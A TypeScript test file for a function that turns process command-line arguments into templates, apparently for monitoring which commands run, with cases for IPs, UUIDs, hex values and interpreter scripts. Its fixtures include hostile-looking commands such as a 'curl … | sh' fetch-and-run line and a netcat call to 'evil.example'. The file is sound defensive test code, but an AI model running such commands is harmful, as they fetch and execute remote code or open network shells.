import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { argumentTemplate } from './argumentTemplate.ts';

describe('an argument template', () => {
  it.each([
    ['digits', '--port 8080 --try 3', '--port # --try #'],
    ['IPv4 addresses', '-h 10.0.0.7', '-h <ip>'],
    ['IPv4 addresses with a port', '10.0.0.7:443', '<ip>:#'],
    ['IPv6 addresses', '-h fd00:ec2::254', '-h <ip>'],
    ['UUIDs', 'run 0f8fad5b-d9cb-469f-a165-70867728950e', 'run <uuid>'],
    ['hexadecimal of 12 or more', 'id 4f3a9c1e77b2', 'id <hex>'],
    ['digits inside of words', 'worker-12a', 'worker-#a'],
    ['a quoted argument', 'echo "Hello big world" -n', 'echo "…" -n'],
  ])('replaces %s', (_what, args, template) => {
    expect(argumentTemplate('/bin/tool', args)).toBe(template);
  });

  it('keeps hexadecimal shorter than 12', () => {
    expect(argumentTemplate('/bin/tool', 'beef cafe')).toBe('beef cafe');
  });

  it.each([
    ['/bin/sh', '-c "curl http://10.0.0.7/x | sh"', '-c "curl http://<ip>/x | sh"'],
    ['/bin/bash', '-lc "sleep 5 && id"', '-lc "sleep # && id"'],
    ['/usr/bin/python3.11', '-c "import socket"', '-c "import socket"'],
    ['/usr/bin/perl', '-e "print 1"', '-e "print #"'],
    ['/usr/local/bin/node', '--eval "require(1)"', '--eval "require(#)"'],
    ['/usr/bin/node', '--eval=a b', '--eval=a b'],
    ['/bin/busybox', 'sh -c "nc 1"', 'sh -c "nc #"'],
    ['/usr/bin/env', 'bash -c "id -u"', 'bash -c "id -u"'],
    ['/usr/bin/timeout', '5 /bin/sh -c "id -u"', '# /bin/sh -c "id -u"'],
  ])('keeps the script after the option of %s as text: %s', (binary, args, template) => {
    expect(argumentTemplate(binary, args)).toBe(template);
  });

  it('tells two scripts apart', () => {
    const entry = argumentTemplate('/bin/sh', '-c "exec /start.sh"');
    expect(argumentTemplate('/bin/sh', '-c "nc evil.example 443"')).not.toBe(entry);
  });

  it('replaces a quoted argument of a program that is no interpreter, also after -c', () => {
    expect(argumentTemplate('/bin/tar', '-c "a b"')).toBe('-c "…"');
  });

  it('takes a quote that never closes to the end', () => {
    expect(argumentTemplate('/bin/echo', 'a "b c')).toBe('a "…"');
  });

  it('is the same for what is made by replacing digits, and never throws', () => {
    fc.assert(
      fc.property(
        fc.constantFrom('/bin/sh', '/bin/tool'),
        fc.string({ maxLength: 200 }),
        (binary, args) => {
          const template = argumentTemplate(binary, args);
          expect(argumentTemplate(binary, args)).toBe(template);
          expect(template).not.toMatch(/\d/);
        },
      ),
    );
  });

  it('takes linear time on hostile text', () => {
    for (const piece of ['a', '0', 'f:', '1.', '"', '" ', ' ', '-c ', 'f0-', '::']) {
      const text = piece.repeat(200_000 / piece.length);
      expect(argumentTemplate('/bin/sh', text).length).toBeGreaterThan(0);
      expect(argumentTemplate('/bin/tool', text).length).toBeGreaterThan(0);
    }
  });
});
